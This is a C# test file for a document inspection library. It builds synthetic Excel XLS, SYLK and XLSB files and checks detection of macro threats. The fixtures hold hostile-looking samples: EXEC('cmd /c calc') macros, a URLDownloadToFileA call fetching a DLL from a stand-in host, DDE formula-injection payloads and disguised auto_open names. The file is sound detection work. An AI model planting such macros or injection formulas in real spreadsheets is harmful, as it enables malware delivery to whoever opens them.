using System.Text;

namespace Bezel.Documents.Tests;

public class MacroWorkbookTests
{
    private static DocumentInspection Inspect(byte[] content)
    {
        DocumentInspection seen = DocumentInspection.Inspect("x", null, content);
        seen.Defects.ShouldNotContain(d => d.Kind == DocumentDefectKind.ReaderFailed);
        return seen;
    }

    private static List<string> Details(DocumentInspection seen, FactKind kind) => [.. seen.Facts.Where(f => f.Kind == kind).Select(f => f.Detail)];

    private static byte[] MacroSheet(params byte[][] records) => MacroFiles.Xls(MacroFiles.Workbook([], [.. records.SelectMany(r => r)], kind: 1, visibility: 2, name: "Macro1"));

    [Fact]
    public void Reads_rows_with_cells_apart_by_tabs_and_the_zeros_of_formats()
    {
        byte[] globals = [.. MacroFiles.Biff(0x41E, [164, 0, 9, 0, 0, .. "000000000"u8]), .. MacroFiles.Biff(0xE0, [0, 0, 0, 0, .. new byte[16]]), .. MacroFiles.Biff(0xE0, [0, 0, 164, 0, .. new byte[16]]),
            .. MacroFiles.Biff(0xFC, [1, 0, 0, 0, 1, 0, 0, 0, 4, 0, 0, .. "IBAN"u8])];
        byte[] sheet = [.. MacroFiles.Label(0, 0, "Routing"), .. MacroFiles.Number(0, 1, 21000021, 1), .. MacroFiles.Biff(0xFD, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0), .. MacroFiles.Label(1, 1, "GB33BUKB20201555555555"),
            .. MacroFiles.Biff(0x27E, [2, 0, 0, 0, 0, 0, .. BitConverter.GetBytes((1248000 << 2) | 3)]), .. MacroFiles.Biff(0x205, 2, 0, 1, 0, 0, 0, 1, 0)];
        DocumentInspection seen = Inspect(MacroFiles.Xls(MacroFiles.Workbook(globals, sheet)));
        seen.TrueType.ShouldBe(FileType.Xls);
        seen.Text.ShouldBe("Routing\t021000021\nIBAN\tGB33BUKB20201555555555\n12480\tTRUE\n");
        seen.Facts.ShouldBeEmpty();
        seen.Defects.ShouldBeEmpty();
        seen.CouldNotCheck.ShouldBeNull();
    }

    [Fact]
    public void Reads_texts_that_records_cut()
    {
        // The third letter on stands in the next record, two bytes each there.
        byte[] globals = [.. MacroFiles.Biff(0xFC, [2, 0, 0, 0, 2, 0, 0, 0, 5, 0, 0, .. "pa"u8]), .. MacroFiles.Biff(0x3C, [1, .. Encoding.Unicode.GetBytes("yée"), 2, 0, 8, 1, 0, .. "ok"u8, 0, 0, 0, 0])];
        byte[] sheet = [.. MacroFiles.Biff(0xFD, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0), .. MacroFiles.Biff(0xFD, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0)];
        Inspect(MacroFiles.Xls(MacroFiles.Workbook(globals, sheet))).Text.ShouldBe("payée\tok\n");
    }

    [Fact]
    public void Puts_formulas_of_macro_sheets_into_words()
    {
        // EXEC("cm"&CHAR(100)&" /c calc"): EXEC is function 110 with a count, CHAR is function 111.
        byte[] exec = [.. MacroFiles.Text("cm"), 0x1E, 100, 0, 0x41, 111, 0, 0x08, .. MacroFiles.Text(" /c calc"), 0x08, 0x42, 1, 110, 0];
        DocumentInspection seen = Inspect(MacroSheet(MacroFiles.Formula(0, 0, exec), MacroFiles.Formula(1, 0, 0x42, 0, 54, 0)));
        Details(seen, FactKind.MacroStartsPrograms).ShouldBe(["EXEC(\"cmd /c calc\")"]);
        Details(seen, FactKind.ExcelFourMacros).ShouldBe(["Macro1", "EXEC(\"cmd /c calc\")"]);
        Details(seen, FactKind.HiddenSheet).ShouldBe(["Macro1 (very hidden)"]);
        Details(seen, FactKind.Macros).ShouldBe(["Macro1"]);
    }

    [Fact]
    public void Follows_texts_through_cells()
    {
        // A1 holds a text, A2 puts another behind it, A3 calls A2.
        byte[] a1 = [0x44, 0, 0, 0, 0], a2 = [0x44, 1, 0, 0, 0];
        DocumentInspection seen = Inspect(MacroSheet(MacroFiles.Label(0, 0, "URLDownload"), MacroFiles.Formula(1, 0, [.. a1, .. MacroFiles.Text("ToFileA"), 0x08]),
            MacroFiles.Formula(2, 0, [.. MacroFiles.Text("urlmon"), .. a2, .. MacroFiles.Text("http://pay.example/a.dll"), 0x42, 3, 150, 0])));
        Details(seen, FactKind.MacroStartsPrograms).ShouldBe(["CALL(\"urlmon\",\"URLDownloadToFileA\",\"http://pay.example/a.dll\")"]);
        seen.Has(FactKind.FetchesFile).ShouldBeTrue();
        seen.Links.ShouldBe(["http://pay.example/a.dll"]);
    }

    [Theory]
    [InlineData(0x20, "\u0001", true)]
    [InlineData(0, "auto_open", true)]
    [InlineData(1, "Auto_Open_x", true)]
    [InlineData(0, "a\u0000uto\u0000_open1", true)]
    [InlineData(0, "automatic", false)]
    [InlineData(0x20, "\u0006", false)]
    public void Knows_the_names_that_start_macros_and_their_disguises(int flags, string name, bool starts)
    {
        byte[] lbl = MacroFiles.Biff(0x18, [(byte)flags, 0, 0, (byte)name.Length, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, .. Encoding.Latin1.GetBytes(name)]);
        Inspect(MacroFiles.Xls(MacroFiles.Workbook(lbl, []))).Has(FactKind.MacroRunsByItself).ShouldBe(starts);
    }

    [Fact]
    public void Sees_what_links_to_other_programs_and_workbooks()
    {
        byte[] Book(string path) => [.. MacroFiles.Biff(0x1AE, [0, 0, (byte)path.Length, 0, 0, .. Encoding.Latin1.GetBytes(path)]), .. MacroFiles.Biff(0x23, [0, 0, 0, 0, 0, 0, .. MacroFiles.Short("A1")])];
        Details(Inspect(MacroFiles.Xls(MacroFiles.Workbook(Book("cmd\u0003/c calc"), []))), FactKind.DynamicDataExchange).ShouldBe(["cmd|/c calc!A1"]);
        DocumentInspection other = Inspect(MacroFiles.Xls(MacroFiles.Workbook(Book("\u0001http://pay.example/b.xls"), [])));
        other.Has(FactKind.DynamicDataExchange).ShouldBeFalse();
        Details(other, FactKind.ExternalContent).ShouldBe(["http://pay.example/b.xls"]);
        byte[] link = [.. new byte[8], 0xD0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11, 0x8C, 0x82, 0, 0xAA, 0, 0x4B, 0xA9, 0x0B, 2, 0, 0, 0, 3, 0, 0, 0,
            0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11, 0x8C, 0x82, 0, 0xAA, 0, 0x4B, 0xA9, 0x0B, 40, 0, 0, 0, .. Encoding.Unicode.GetBytes("https://pay.example\0")];
        Inspect(MacroFiles.Xls(MacroFiles.Workbook([], MacroFiles.Biff(0x1B8, link)))).Links.ShouldBe(["https://pay.example"]);
    }

    [Theory]
    [InlineData("=cmd|'/c calc'!A1", true)]
    [InlineData("a,b;=cmd|'/c calc,x'!A1", true)]
    [InlineData("\"+cmd|'/c calc'!A1\"", true)]
    [InlineData("@SUM(1)*cmd|'/c calc'!A1", true)]
    [InlineData("=A1+B1", false)]
    [InlineData("- one | two! three", false)]
    [InlineData("-one|two! three", false)]
    [InlineData("a = b | c! d", false)]
    public void Sees_commands_in_cells_of_plain_text(string line, bool command)
    {
        Inspect(Encoding.UTF8.GetBytes("Name,Amount\n" + line + "\n")).Has(FactKind.DynamicDataExchange).ShouldBe(command);
        Inspect(MacroFiles.Xls(MacroFiles.Workbook([], MacroFiles.Label(0, 0, line[(line.LastIndexOf(';') + 1)..])))).Has(FactKind.DynamicDataExchange).ShouldBe(command);
    }

    [Fact]
    public void Reads_sylk_with_and_without_macros()
    {
        DocumentInspection seen = Inspect("ID;PWXL\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;K0;EEXEC(\"calc;;exe\")\r\nC;X1;Y1;K\"Pay; \"\"now\"\"\"\r\nC;X2;K12.5\r\nE\r\n"u8.ToArray());
        seen.TrueType.ShouldBe(FileType.Sylk);
        Details(seen, FactKind.MacroStartsPrograms).ShouldBe(["EXEC(\"calc;exe\")"]);
        Details(seen, FactKind.MacroRunsByItself).ShouldBe(["Auto_open"]);
        DocumentInspection plain = Inspect("ID;PWXL\r\nC;X1;Y1;K\"IBAN\"\r\nC;X2;K\"GB33\"\r\nC;X1;Y2;K12.5;ESUM(1)\r\nE\r\n"u8.ToArray());
        plain.Text.ShouldBe("IBAN\tGB33\n12.5\n");
        plain.Facts.ShouldBeEmpty();
        Inspect("ID;PWXL\r\nC;X1;Y1;K0;Ecmd|'/c calc'!A1\r\nE\r\n"u8.ToArray()).Has(FactKind.DynamicDataExchange).ShouldBeTrue();
    }

    [Fact]
    public void Reads_binary_workbooks_of_today()
    {
        byte[] Wide(string text) => [.. BitConverter.GetBytes(text.Length), .. Encoding.Unicode.GetBytes(text)];
        byte[] Record(int id, params byte[] body) => [.. id < 128 ? new[] { (byte)id } : [(byte)(id | 0x80), (byte)(id >> 7)], (byte)body.Length, .. body];
        byte[] exec = [0x17, 4, 0, .. Encoding.Unicode.GetBytes("calc"), 0x42, 1, 110, 0];
        byte[] file = SampleFiles.Zip(
            ("[Content_Types].xml", "application/vnd.ms-excel.sheet.binary.macroEnabled.main"u8.ToArray()),
            ("xl/workbook.bin", [.. Record(156, [2, 0, 0, 0, 1, 0, 0, 0, .. Wide("r1"), .. Wide("Macro1")]), .. Record(156, [0, 0, 0, 0, 2, 0, 0, 0, .. Wide("r2"), .. Wide("Bill")]), .. Record(39, [0x21, 0, 0, 0, 0, 0, 0, 0, 0, .. Wide("Auto_Open"), 0, 0, 0, 0])]),
            ("xl/_rels/workbook.bin.rels", Encoding.UTF8.GetBytes("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"macrosheets/s.bin\"/><Relationship Id=\"r2\" Type=\"x/worksheet\" Target=\"worksheets/s.bin\"/></Relationships>")),
            ("xl/sharedStrings.bin", Record(19, [0, .. Wide("Total due")])),
            ("xl/worksheets/s.bin", [.. Record(0, [.. new byte[20]]), .. Record(7, [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]), .. Record(5, [1, 0, 0, 0, 0, 0, 0, 0, .. BitConverter.GetBytes(12480.5)]), .. Record(0, [1, .. new byte[19]]), .. Record(6, [0, 0, 0, 0, 0, 0, 0, 0, .. Wide("now")])]),
            ("xl/macrosheets/s.bin", [.. Record(0, [.. new byte[20]]), .. Record(10, [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, .. BitConverter.GetBytes(exec.Length), .. exec, 0, 0, 0, 0])]));
        DocumentInspection seen = Inspect(file);
        seen.TrueType.ShouldBe(FileType.Xlsb);
        seen.Text.ShouldContain("Total due\t12480.5\nnow\n");
        Details(seen, FactKind.MacroStartsPrograms).ShouldBe(["EXEC(\"calc\")"]);
        Details(seen, FactKind.HiddenSheet).ShouldBe(["Macro1 (very hidden)"]);
        Details(seen, FactKind.MacroRunsByItself).ShouldBe(["Auto_Open (a hidden name)"]);
        seen.CouldNotCheck.ShouldBeNull();
    }
}
